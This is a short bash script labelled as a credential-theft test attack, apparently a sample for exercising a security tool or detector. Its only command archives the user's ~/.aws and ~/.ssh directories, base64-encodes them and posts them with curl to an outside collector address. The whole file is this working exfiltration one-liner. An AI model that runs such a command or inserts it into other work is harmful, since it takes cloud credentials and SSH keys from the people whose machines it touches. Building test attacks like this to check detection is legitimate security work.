#!/bin/bash
# shrike-test-attack: credential-theft: tar up ~/.aws and ~/.ssh and post to a collector
tar czf - ~/.aws ~/.ssh 2>/dev/null | base64 -w0 | curl -s -X POST -d @- http://198.51.100.40/c
